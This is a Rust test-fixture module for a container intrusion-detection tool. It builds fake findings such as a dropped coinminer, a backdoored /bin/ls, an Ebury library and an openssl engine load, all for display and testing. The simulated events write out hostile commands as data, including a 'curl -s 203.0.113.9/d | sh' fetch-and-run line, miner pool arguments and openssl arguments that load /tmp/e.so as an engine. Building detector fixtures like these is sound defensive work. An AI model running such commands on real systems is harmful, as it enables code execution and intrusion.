//! Findings as real ones look: a shop's containers under attack, and the watch's own errors. All made by the detectors'
//! own builder from hand-written events.

use std::{collections::BTreeMap, sync::Arc};

use detect::finding::{Investigation, Naming, build};
use model::{
    Text, Timestamp,
    detection::Detection,
    enriched::{
        Ancestor, Container, Content, Engine, EnrichedEvent, EnrichedPayload, EnvVariable, File,
        FileKind, IndicatorMatch, Mount, Pod, Process, Settings,
    },
    event::{Credentials, ProcessKey},
    finding::FindingResult,
    provenance::{Evidence, MissingReason, Provenance, Sha256, UnknownReason},
};
use store::ContainerState;

const SECOND: u64 = 1_000_000_000;
const MINUTE: u64 = 60 * SECOND;
const HOUR: u64 = 60 * MINUTE;

/// A set of findings up to `now`; `extra` more of low severity spread over the last week.
pub(crate) fn findings(now: Timestamp, extra: u64) -> Vec<FindingResult> {
    let ago = |ns: u64| Timestamp(now.0.saturating_sub(ns));
    let shop = Arc::new(shop());
    let legacy = Arc::new(legacy());
    let batch = Arc::new(batch());
    let mut all = Vec::new();
    let mut add = |finding: FindingResult| all.push(finding);

    // One attack on the shop: a dropped miner, a changed ls, a preloaded library.
    let intrusion = ago(7 * MINUTE);
    add(exec(
        "added_malicious_binary_executed",
        &shop,
        intrusion,
        miner(),
        Provenance::Added,
        0,
    ));
    add(exec(
        "modified_malicious_binary_executed",
        &shop,
        intrusion.plus_ns(2 * SECOND),
        changed_ls(),
        Provenance::Modified,
        0,
    ));
    add(library(
        "added_malicious_library_loaded",
        &shop,
        intrusion.plus_ns(3_400_000_000),
    ));
    add(exec(
        "added_binary_executed",
        &shop,
        intrusion.plus_ns(41 * SECOND),
        file("/tmp/.x/nscd", 18, Provenance::Added),
        Provenance::Added,
        1,
    ));
    // A bad image, and a hash that came too late.
    add(exec(
        "built_in_malicious_binary_executed",
        &legacy,
        ago(5 * HOUR),
        known(
            file("/usr/local/bin/healthcheck", 3, Provenance::BuiltIn),
            "Coinminer.Linux",
        ),
        Provenance::BuiltIn,
        2,
    ));
    let mut gone = known(
        file(
            "/dev/shm/k",
            9,
            Provenance::Unknown(UnknownReason::ContainerGone),
        ),
        "Mirai",
    );
    gone.evidence.mount = Some(Text::from("tmpfs on /dev/shm"));
    add(exec(
        "malicious_binary_executed",
        &batch,
        ago(26 * HOUR),
        gone,
        Provenance::Unknown(UnknownReason::ContainerGone),
        3,
    ));
    add(openssl(&legacy, ago(3 * HOUR)));
    add(about_the_watch(
        "sensor_lost",
        ago(30 * HOUR),
        "The sensor for executed programs stopped for 12 s.",
    ));
    add(about_the_watch(
        "events_dropped",
        ago(29 * HOUR),
        "412 events were dropped: the kernel's buffer was full.",
    ));
    for number in 0..extra {
        let time = ago(number * 7 * 24 * HOUR / extra.max(1) + 11 * MINUTE);
        let container = [&shop, &legacy, &batch][(number % 3) as usize];
        let byte = (number % 200) as u8;
        let path = format!("/opt/app/releases/{number}/bin/worker");
        add(exec(
            "added_binary_executed",
            container,
            time,
            file(&path, byte, Provenance::Added),
            Provenance::Added,
            number + 10,
        ));
    }
    all
}

/// One more finding, as if it happened now. Each number is another fact.
pub(crate) fn live(now: Timestamp, number: u64) -> FindingResult {
    let path = format!("/tmp/live-{number}");
    exec(
        "added_malicious_binary_executed",
        &Arc::new(shop()),
        now,
        known(file(&path, 77, Provenance::Added), "EICAR-Test"),
        Provenance::Added,
        1000 + number,
    )
}

/// A finding in which everything a container can choose is `text`.
pub(crate) fn hostile(now: Timestamp, text: &str) -> FindingResult {
    let mut container = shop();
    container.id = text.to_owned();
    container.name = text.to_owned();
    container.image = text.to_owned();
    container.image_digest = Some(text.to_owned());
    container.labels = BTreeMap::from([(text.to_owned(), text.to_owned())]);
    container.pod = Some(Pod {
        namespace: text.to_owned(),
        name: text.to_owned(),
        uid: text.to_owned(),
        container: text.to_owned(),
        labels: BTreeMap::from([(text.to_owned(), text.to_owned())]),
    });
    container.settings = Settings {
        command: vec![text.to_owned()],
        env: vec![(text.to_owned(), Some(text.to_owned()))],
        user: text.to_owned(),
        capabilities: vec![text.to_owned()],
        security_label: Some(text.to_owned()),
        host_namespaces: vec![text.to_owned()],
        mounts: vec![Mount {
            destination: text.to_owned(),
            source: text.to_owned(),
            kind: text.to_owned(),
            writable: true,
        }],
        ..Settings::default()
    };
    let mut binary = known(file(text, 66, Provenance::Added), text);
    binary.contents = Some(Text::from(text));
    binary.path_used = Some(Text::from(text));
    binary.evidence.same_content_as = Some(Text::from(text));
    binary.evidence.mount = Some(Text::from(text));
    binary.evidence.image_layer = Some(Text::from(text));
    let mut event = event(&Arc::new(container), now, binary.clone(), 500);
    if let Some(process) = &mut event.process {
        let process = Arc::make_mut(process);
        process.name = Text::from(text);
        process.args = vec![Text::from(text), Text::from(text)];
        process.cwd = Text::from(text);
        process.script = Some(Arc::new(binary));
        Arc::make_mut(&mut process.env).push(EnvVariable {
            name: Text::from(text),
            value: Some(Text::from(text)),
        });
        for ancestor in process.ancestors.iter_mut().map(Arc::make_mut) {
            ancestor.name = Text::from(text);
            ancestor.args = vec![Text::from(text)];
            ancestor.path = Some(Text::from(text));
        }
    }
    finish(
        "added_malicious_binary_executed",
        event,
        text,
        vec![text.to_owned()],
        &[text],
    )
}

fn shop() -> Container {
    Container {
        id: "4f1c8a90b7d24e0c9c51f7b2a6d3e8150d9b7a4c2e61f08b3a5d7c9e1f204b68".to_owned(),
        name: "shop-frontend".to_owned(),
        engine: Engine::Podman,
        image: "registry.example.test/shop/frontend:2026.11.3".to_owned(),
        image_digest: Some(
            "sha256:9b2f6c0f1d9e4a7b8c3d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f7a8b9c0d".to_owned(),
        ),
        labels: BTreeMap::from([("team".to_owned(), "storefront".to_owned())]),
        created: Timestamp::parse("2026-11-03T08:12:44Z"),
        settings: Settings {
            command: vec![
                "node".to_owned(),
                "/srv/app/server.js".to_owned(),
                "--port=8080".to_owned(),
            ],
            env: vec![
                ("NODE_ENV".to_owned(), None),
                ("DATABASE_URL".to_owned(), None),
                ("PORT".to_owned(), None),
            ],
            user: "0:0".to_owned(),
            capabilities: [
                "CAP_CHOWN",
                "CAP_DAC_OVERRIDE",
                "CAP_NET_BIND_SERVICE",
                "CAP_SYS_PTRACE",
                "CAP_SETUID",
            ]
            .map(str::to_owned)
            .into(),
            seccomp: true,
            no_new_privileges: false,
            mounts: vec![
                Mount {
                    destination: "/var/run/docker.sock".to_owned(),
                    source: "/var/run/docker.sock".to_owned(),
                    kind: "bind".to_owned(),
                    writable: true,
                },
                Mount {
                    destination: "/srv/uploads".to_owned(),
                    source: "/data/uploads".to_owned(),
                    kind: "bind".to_owned(),
                    writable: true,
                },
            ],
            ..Settings::default()
        },
        ..Container::default()
    }
}

fn legacy() -> Container {
    Container {
        id: "a17e5d0c63b94f82".to_owned(),
        name: "billing-legacy".to_owned(),
        engine: Engine::Containerd,
        image: "registry.example.test/billing/legacy:latest".to_owned(),
        image_digest: Some(
            "sha256:0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0".to_owned(),
        ),
        created: Timestamp::parse("2026-09-14T19:00:02Z"),
        pod: Some(Pod {
            namespace: "payments".to_owned(),
            name: "billing-legacy-7c9d4b5f66-x2kql".to_owned(),
            uid: "0d6f8a52-7a6f-4bb1-9a35-8f6f5e2c1b3a".to_owned(),
            container: "billing".to_owned(),
            labels: BTreeMap::from([("app".to_owned(), "billing".to_owned())]),
        }),
        settings: Settings {
            command: vec!["/entrypoint.sh".to_owned()],
            user: "1000:1000".to_owned(),
            seccomp: true,
            no_new_privileges: true,
            read_only_root: true,
            ..Settings::default()
        },
        ..Container::default()
    }
}

fn batch() -> Container {
    Container {
        id: "nightly-report-42".to_owned(),
        name: "nightly-report-42".to_owned(),
        engine: Engine::Runc,
        image: String::new(),
        settings: Settings {
            user: "0:0".to_owned(),
            privileged: true,
            host_namespaces: vec!["pid".to_owned(), "net".to_owned()],
            ..Settings::default()
        },
        ..Container::default()
    }
}

fn digest(byte: u8) -> Sha256 {
    let mut bytes = [0; 32];
    for (index, place) in (0_u8..).zip(bytes.iter_mut()) {
        *place = byte
            .wrapping_mul(31)
            .wrapping_add(index.wrapping_mul(73))
            .rotate_left(3)
            ^ 0x5a;
    }
    Sha256(bytes)
}

fn file(path: &str, byte: u8, provenance: Provenance) -> File {
    File {
        path: Text::from(path),
        path_used: None,
        content: Content::Known {
            sha256: digest(byte),
            size: 1_048_576 + u64::from(byte) * 811,
        },
        key: None,
        provenance,
        evidence: Evidence::default(),
        matches: Vec::new(),
        kind: FileKind::Program,
        contents: None,
        is_memfd: false,
    }
}

fn known(mut file: File, family: &str) -> File {
    file.matches = vec![IndicatorMatch {
        list: "abuse-feed-2026-11".to_owned(),
        entry: file
            .sha256()
            .map(|sha256| sha256.to_string())
            .unwrap_or_default(),
        date: Timestamp::parse("2026-11-20T04:00:00Z"),
        family: Some(family.to_owned()),
    }];
    file
}

fn miner() -> File {
    known(
        file("/tmp/.x/kdevtmpfsi", 17, Provenance::Added),
        "Coinminer.Kinsing",
    )
}

fn changed_ls() -> File {
    let mut file = known(
        file("/bin/ls", 41, Provenance::Modified),
        "Backdoor.Linux.Prism",
    );
    file.evidence.image_sha256 = Some(digest(40));
    file.evidence.image_layer = Some(Text::from("sha256:77c1d4e2aa90bb63 (layer 2 of 6)"));
    file
}

fn event(container: &Arc<Container>, time: Timestamp, binary: File, number: u64) -> EnrichedEvent {
    let ancestor = |pid: u32, name: &str, path: &str, args: &[&str], uid: u32| {
        Arc::new(Ancestor {
            key: ProcessKey {
                pid: pid + 41_000,
                start_ns: 1,
            },
            pid_in_namespace: pid,
            name: Text::from(name),
            path: Some(Text::from(path)),
            args: args.iter().map(|word| Text::from(*word)).collect(),
            args_truncated: false,
            uid,
        })
    };
    let name = binary
        .path
        .to_json_string()
        .rsplit('/')
        .next()
        .unwrap_or_default()
        .chars()
        .take(15)
        .collect::<String>();
    let args = [
        "-o",
        "pool.example.test:3333",
        "--donate-level=0",
        "--background",
    ];
    let pid = 160 + u32::try_from(number % 1000).unwrap_or(0);
    let process = Process {
        key: ProcessKey {
            pid: 41_000 + pid,
            start_ns: 7,
        },
        pid_in_namespace: pid,
        name: Text::from(name),
        args: std::iter::once(binary.path.clone())
            .chain(args.map(Text::from))
            .collect(),
        env: ["PATH", "HOME", "DATABASE_URL", "LD_PRELOAD"]
            .map(|name| EnvVariable {
                name: Text::from(name),
                value: None,
            })
            .to_vec()
            .into(),
        cwd: Text::from("/srv/app"),
        credentials: Credentials::default(),
        ancestors: vec![
            ancestor(
                158,
                "sh",
                "/bin/sh",
                &["sh", "-c", "curl -s 203.0.113.9/d | sh"],
                0,
            ),
            ancestor(
                1,
                "node",
                "/usr/local/bin/node",
                &["node", "/srv/app/server.js", "--port=8080"],
                0,
            ),
        ],
        exec_time: Some(time),
        binary: Some(Arc::new(binary)),
        ..Process::default()
    };
    EnrichedEvent {
        time,
        container: Some(Arc::clone(container)),
        process: Some(Arc::new(process)),
        payload: EnrichedPayload::Exec,
    }
}

fn exec(
    detector: &'static str,
    container: &Arc<Container>,
    time: Timestamp,
    binary: File,
    provenance: Provenance,
    number: u64,
) -> FindingResult {
    let binary = File {
        provenance,
        ..binary
    };
    let path = binary.path.to_json_string();
    let description = match provenance {
        Provenance::Added => format!(
            "A program that the image does not ship ran in {}: {path}.",
            container.name
        ),
        Provenance::Modified => format!(
            "A program that was changed since the image was built ran in {}: {path}.",
            container.name
        ),
        Provenance::BuiltIn => format!(
            "The image of {} ships a program that threat intelligence knows: {path}.",
            container.name
        ),
        Provenance::Unknown(reason) => {
            format!(
                "A program that threat intelligence knows ran in {}: {path}; {}.",
                container.name,
                reason.text()
            )
        }
    };
    let event = event(container, time, binary, number);
    finish(detector, event, &description, vec![path], LOG)
}

fn library(detector: &'static str, container: &Arc<Container>, time: Timestamp) -> FindingResult {
    let library = Arc::new(known(
        file("/usr/lib/libkeyutils.so.1.9", 88, Provenance::Added),
        "Rootkit.Ebury",
    ));
    let mut event = event(
        container,
        time,
        file("/usr/sbin/sshd", 20, Provenance::BuiltIn),
        7,
    );
    event.payload = EnrichedPayload::LibraryLoad {
        library: Arc::clone(&library),
    };
    let mut result = finish(
        detector,
        event,
        "A library that the image does not ship was loaded by /usr/sbin/sshd.",
        vec!["libkeyutils".to_owned()],
        LOG,
    );
    if result.finding.files.is_empty() {
        result.finding.files = result
            .finding
            .processes
            .iter()
            .flat_map(|process| process.libraries.clone())
            .collect();
    }
    result
}

fn openssl(container: &Arc<Container>, time: Timestamp) -> FindingResult {
    let mut binary = file("/usr/bin/openssl", 5, Provenance::BuiltIn);
    binary.kind = FileKind::OpensslProgram;
    let mut event = event(container, time, binary, 3);
    if let Some(process) = &mut event.process {
        Arc::make_mut(process).args = [
            "openssl",
            "engine",
            "-t",
            "-c",
            "-pre",
            "SO_PATH:/tmp/e.so",
            "-pre",
            "LOAD",
            "dynamic",
        ]
        .map(Text::from)
        .into();
    }
    finish(
        "suspicious_openssl_shared_object_loaded",
        event,
        "The openssl program was asked to load /tmp/e.so as an engine.",
        vec!["e.so".to_owned()],
        &[],
    )
}

fn about_the_watch(detector: &'static str, time: Timestamp, description: &str) -> FindingResult {
    let event = EnrichedEvent {
        time,
        container: None,
        process: None,
        payload: EnrichedPayload::NotCovered {
            what: description.to_owned(),
        },
    };
    finish(detector, event, description, Vec::new(), &[])
}

const LOG: &[&str] = &[
    "2026-11-22T02:58:01Z GET /healthz 200 1ms",
    "2026-11-22T02:58:04Z POST /api/import 500 212ms",
    "2026-11-22T02:58:04Z Error: template failed: TypeError: cannot read properties of undefined (reading 'constructor')",
    "    at render (/srv/app/node_modules/tmpl/index.js:88:17)",
    "2026-11-22T02:58:05Z child process exited with code 0",
    "2026-11-22T02:58:11Z GET /healthz 200 4ms",
];

fn finish(
    detector: &'static str,
    event: EnrichedEvent,
    description: &str,
    identity: Vec<String>,
    log: &[&str],
) -> FindingResult {
    let spec = detect::find(detector).expect("a detector of the catalogue");
    let detection = Detection {
        detector: spec.id,
        event,
        description: description.to_owned(),
        identity,
        files: Vec::new(),
        severity: None,
        properties: Vec::new(),
    };
    let investigation = Investigation {
        log_tail: log.iter().map(|line| Text::from(*line)).collect(),
        recent_findings: Vec::new(),
    };
    let naming = Naming {
        host: "edge-03".to_owned(),
        ..Naming::default()
    };
    build(
        &detection,
        spec,
        &detect::Settings::default(),
        &naming,
        &investigation,
    )
}

/// The containers that Coverage shows: watched ones, one that is not, one that has ended.
pub(crate) fn containers(now: Timestamp) -> Vec<ContainerState> {
    let ago = |ns: u64| Timestamp(now.0.saturating_sub(ns));
    let state = |container: &Container, engine: &str| ContainerState {
        id: container.id.clone(),
        name: container.name.clone(),
        image: container.image.clone(),
        engine: engine.to_owned(),
        sensor: "ebpf".to_owned(),
        since: ago(40 * HOUR),
        last_event: Some(ago(3 * SECOND)),
        last_test: Some(ago(9 * MINUTE)),
        ..ContainerState::default()
    };
    vec![
        state(&shop(), "podman"),
        state(&legacy(), "containerd"),
        ContainerState {
            sensor: String::new(),
            last_test: None,
            uncovered: "Its root filesystem could not be marked: /proc/4711/root is gone."
                .to_owned(),
            ..state(&batch(), "runc")
        },
        ContainerState {
            id: "0f0f".to_owned(),
            name: "migrate-1".to_owned(),
            ended: Some(ago(2 * HOUR)),
            ..state(&shop(), "podman")
        },
    ]
}

/// A file whose bytes were gone; kept with the others so that every way a hash can be missing has a page to look at.
pub(crate) fn without_hash(now: Timestamp) -> FindingResult {
    let mut binary = file(
        "/tmp/gone",
        1,
        Provenance::Unknown(UnknownReason::NoContent),
    );
    binary.content = Content::Missing {
        reason: MissingReason::ProcessGone,
    };
    let event = event(&Arc::new(shop()), now, binary, 900);
    finish(
        "added_binary_executed",
        event,
        "A program ran whose bytes were gone.",
        vec!["gone".to_owned()],
        LOG,
    )
}
